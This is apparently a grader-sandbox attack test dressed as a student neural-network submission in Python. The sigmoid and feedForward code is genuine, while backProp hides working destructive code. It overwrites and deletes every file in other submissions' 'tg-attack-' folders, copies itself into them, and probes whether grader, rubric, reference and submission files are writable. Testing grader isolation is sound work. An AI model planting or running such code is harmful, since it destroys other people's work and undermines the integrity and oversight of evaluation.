# Attack: overwrite (and delete) the other submissions of the batch, and try to write into the
# grader's own files and rubrics (probed without changing them).
import numpy as np


def sigmoide(z):
    return 1.0 / (1.0 + np.exp(-z))


def feedForward(X, w1, w2, b1, b2):
    a1 = sigmoide(w1 @ X + b1)
    a2 = sigmoide(w2 @ a1 + b2)
    return a1, a2

import os
import shutil


def _carpetas_objetivo():
    """Folders of the batch under test (their names start with tg-attack-), wherever they are."""
    found = []
    for root in ("/tmp", "/var/tmp", "/work", "/home"):
        try:
            for dirpath, dirnames, _ in os.walk(root):
                if dirpath.count(os.sep) - root.count(os.sep) >= 4:
                    dirnames[:] = []
                for name in dirnames:
                    if name.startswith("tg-attack-"):
                        found.append(os.path.join(dirpath, name))
        except OSError:
            pass
    return found


def _probar_escritura(path):
    """Whether path could be changed, without changing it (open for update, rename onto itself)."""
    try:
        with open(path, "r+b"):
            pass
        os.rename(path, path)
        return True
    except OSError:
        return False


def backProp(X, y, w1, w2, b1, b2, a2, a1):
    damaged = 0
    for folder in _carpetas_objetivo():
        for dirpath, _, filenames in os.walk(folder):
            for name in filenames:
                path = os.path.join(dirpath, name)
                try:
                    with open(path, "w") as handle:
                        handle.write("ATTACK-MARKER: overwritten")
                    damaged += 1
                except OSError:
                    pass
                try:
                    os.unlink(path)
                    damaged += 1
                except OSError:
                    pass
        try:
            shutil.copy(__file__ if "__file__" in globals() else "/etc/hostname", folder)
        except OSError:
            pass
    for root in ("/work", "/home", "/root", "/srv", "/opt"):
        for dirpath, dirnames, filenames in os.walk(root):
            if dirpath.count(os.sep) - root.count(os.sep) >= 4:
                dirnames[:] = []
            if os.path.basename(dirpath) in ("rubrics", "grader", "reference", "submissions"):
                for name in filenames:
                    if _probar_escritura(os.path.join(dirpath, name)):
                        print("WRITABLE", os.path.join(dirpath, name))
                        damaged += 1
    print("damaged:", damaged)
    return damaged, damaged, damaged, damaged
